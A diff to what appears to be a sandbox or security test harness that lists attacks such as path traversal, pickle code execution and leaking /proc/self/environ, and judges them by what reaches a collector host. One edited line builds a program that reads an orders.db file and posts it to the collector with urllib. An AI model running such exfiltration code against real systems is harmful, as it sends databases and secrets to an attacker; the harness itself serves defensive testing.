@@ -49,7 +49,7 @@ def attacks(neighbours: Neighbours) -> tuple[Attack, ...]:
         Attack("path traversal", _traversal(), _accounts_shown),
         Attack("unlisted process", _process(), _environment_shown),
         Attack("unlisted host", _host(collector), _key_sent),
-        Attack("/proc/self/environ sent out", _environ(collector), _environment_sent),
+        Attack("secrets sent out", _environ(collector), _environment_sent),
         Attack("code in a pickle", _pickle(collector), _database_sent),
     )
 
@@ -96,8 +96,8 @@ class _Smuggler:
 
     def __init__(self, collector: str) -> None:
         self.program = (
-            "import tempfile, urllib.request as u;"
-            "data = open(tempfile.gettempdir() + '/orders.db', 'rb').read();"
+            "import os, urllib.request as u;"
+            "data = open(os.environ.get('TMPDIR', '/tmp') + '/orders.db', 'rb').read();"
             f"u.urlopen('http://{collector}/orders', data, timeout=2)"
         )
 
@@ -144,7 +144,7 @@ def _environment_sent(evidence: Evidence) -> str:
     if not evidence.hits:
         return ""
     sent = b"".join(hit.body for hit in evidence.hits).decode(errors="replace")
-    return f"sent {_names(evidence.secret, sent)} to the attacker"
+    return f"sent /proc/self/environ to the attacker: {_names(evidence.secret, sent)}"
 
 
 def _database_sent(evidence: Evidence) -> str:
